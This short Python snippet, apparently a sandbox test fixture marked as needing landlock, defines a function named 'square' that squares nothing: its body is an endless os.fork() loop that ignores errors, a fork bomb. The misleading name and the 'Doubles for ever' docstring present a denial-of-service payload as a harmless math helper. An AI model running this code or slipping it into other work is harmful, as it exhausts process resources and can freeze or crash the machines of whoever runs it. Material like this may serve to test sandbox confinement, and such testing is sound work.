"""Doubles for ever."""
# needs: landlock
# %% square
import os

def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
